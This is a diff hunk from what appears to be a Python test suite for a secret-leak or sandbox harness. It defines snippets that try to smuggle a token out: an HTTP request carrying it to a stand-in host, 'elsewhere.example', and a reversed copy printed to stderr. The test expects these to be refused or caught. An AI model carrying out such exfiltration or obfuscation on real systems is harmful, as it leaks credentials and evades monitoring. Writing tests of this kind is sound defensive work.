@@ -28,7 +28,10 @@ sent = urllib.request.Request("http://elsewhere.example/", headers={"x-token": t
         urllib.request.urlopen(sent)
     except urllib.error.HTTPError as refusal:
         assert refusal.code == 403"""
-ARGUMENT = 'subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token])'
+# What holds the target's pipes is waited for; this is not about that.
+ARGUMENT = """\
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token],
+        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""
 LEAKS = {
     "another-host": (ELSEWHERE, "SECRET-3", "in GET http://elsewhere.example/ HTTP/1.1"),
     "stderr": ("print(token[::-1], file=sys.stderr)", "SECRET-2", "(reversed) on stderr"),
